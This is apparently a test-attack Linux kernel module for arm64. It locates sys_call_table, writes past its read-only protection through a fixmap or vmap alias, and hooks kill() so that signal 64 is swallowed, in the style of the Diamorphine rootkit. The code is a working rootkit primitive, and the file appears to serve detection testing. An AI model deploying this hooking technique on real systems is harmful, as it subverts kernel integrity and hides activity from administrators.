// SPDX-License-Identifier: GPL-2.0
/*
 * hook_syscall: a Diamorphine-style system call table hook. The entry for kill() in
 * sys_call_table (read-only data) is replaced by this module's function, which swallows
 * signal 64 (counting it in /sys/module/hook_syscall/parameters/intercepted) and passes
 * every other call on to the original.
 *
 * kallsyms_lookup_name() is not exported and sys_call_table is not in /proc/kallsyms
 * (KALLSYMS_ALL is off), so the caller provides what is needed:
 *  - table=ADDR, or kill_fn=ADDR getpid_fn=ADDR scan=ADDR: find the table by content, the
 *    first 8-byte slot at or after `scan` (e.g. _etext) whose kill and getpid entries hold
 *    __arm64_sys_kill and __arm64_sys_getpid (text symbols, in /proc/kallsyms);
 *  - how to write read-only data: set_fixmap=ADDR of __set_fixmap() maps the table's page
 *    writable at the kernel's own text-poke fixmap slot (FIX_TEXT_POKE0), as the kernel's
 *    patcher does; without it, a temporary writable vmap() alias of the page is used.
 *    (Diamorphine's update_mapping_prot() is inlined in this kernel, not in kallsyms.)
 *
 *   insmod hook_syscall.ko kill_fn=0x... getpid_fn=0x... scan=0x...
 *   rmmod hook_syscall                  puts the original entry back
 */
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/fixmap.h>
#include <asm/memory.h>
#include <asm/syscall.h>
#include <asm/unistd.h>

static unsigned long table, kill_fn, getpid_fn, scan, scan_len = 64UL << 20;
static unsigned long set_fixmap, intercepted;
module_param(table, ulong, 0444);
module_param(kill_fn, ulong, 0444);
module_param(getpid_fn, ulong, 0444);
module_param(scan, ulong, 0444);
module_param(scan_len, ulong, 0444);
module_param(set_fixmap, ulong, 0444);
module_param(intercepted, ulong, 0444);
MODULE_PARM_DESC(table, "address of sys_call_table, if known");
MODULE_PARM_DESC(kill_fn, "address of __arm64_sys_kill (to find or check the table)");
MODULE_PARM_DESC(getpid_fn, "address of __arm64_sys_getpid (to find the table)");
MODULE_PARM_DESC(scan, "where the search for the table starts");
MODULE_PARM_DESC(scan_len, "how many bytes the search covers");
MODULE_PARM_DESC(set_fixmap, "address of __set_fixmap (else a vmap alias is used)");
MODULE_PARM_DESC(intercepted, "how many kill(..., 64) calls the hook swallowed");

#define MAGIC_SIGNAL 64

static syscall_fn_t *slot;
static syscall_fn_t original;

static long hooked_kill(const struct pt_regs *regs)
{
	if (regs->regs[1] == MAGIC_SIGNAL) {
		intercepted++;
		pr_info("hook_syscall: kill(%ld, %d) swallowed\n", (long)regs->regs[0],
			MAGIC_SIGNAL);
		return 0;
	}
	return original(regs);
}

static unsigned long read_word(unsigned long addr)
{
	unsigned long v = 0;

	if (copy_from_kernel_nofault(&v, (void *)addr, sizeof(v)))
		return 0;
	return v;
}

static unsigned long find_table(void)
{
	unsigned long p;

	for (p = ALIGN(scan, 8); p < scan + scan_len; p += 8) {
		if (read_word(p + __NR_kill * 8) == kill_fn &&
		    read_word(p + __NR_getpid * 8) == getpid_fn)
			return p;
	}
	return 0;
}

static void write_slot(syscall_fn_t value)
{
	void (*fixmap)(enum fixed_addresses, phys_addr_t, pgprot_t) = (void *)set_fixmap;
	unsigned long addr = (unsigned long)slot;
	phys_addr_t pa = __pa_symbol(addr);
	struct page *page;
	void *alias;

	/* The kernel image's own mapping stays read-only; write through a second one. */
	if (set_fixmap) {
		alias = (void *)__fix_to_virt(FIX_TEXT_POKE0);
		fixmap(FIX_TEXT_POKE0, pa & PAGE_MASK, PAGE_KERNEL);
		WRITE_ONCE(*(syscall_fn_t *)(alias + offset_in_page(addr)), value);
		fixmap(FIX_TEXT_POKE0, 0, FIXMAP_PAGE_CLEAR);
		return;
	}
	page = pfn_to_page(PHYS_PFN(pa));
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		pr_info("hook_syscall: vmap failed\n");
		return;
	}
	WRITE_ONCE(*(syscall_fn_t *)(alias + offset_in_page(addr)), value);
	vunmap(alias);
}

static int __init hook_syscall_init(void)
{
	if (!table && kill_fn && getpid_fn && scan)
		table = find_table();
	if (!table) {
		pr_info("hook_syscall: no table (give table= or kill_fn= getpid_fn= scan=)\n");
		return -EINVAL;
	}
	slot = (syscall_fn_t *)table + __NR_kill;
	original = READ_ONCE(*slot);
	if (kill_fn && (unsigned long)original != kill_fn) {
		pr_info("hook_syscall: table %lx holds %px for kill, not %lx\n", table, original,
			kill_fn);
		return -EINVAL;
	}
	write_slot(hooked_kill);
	if (READ_ONCE(*slot) != hooked_kill) {
		pr_info("hook_syscall: the write did not take\n");
		return -EIO;
	}
	pr_info("hook_syscall: sys_call_table %lx: kill %pS -> %pS (%s)\n", table, original,
		hooked_kill, set_fixmap ? "fixmap FIX_TEXT_POKE0" : "vmap alias");
	return 0;
}

static void __exit hook_syscall_exit(void)
{
	write_slot(original);
	pr_info("hook_syscall: kill restored\n");
}

module_init(hook_syscall_init);
module_exit(hook_syscall_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("spumone test attack: hook kill() in the syscall table");
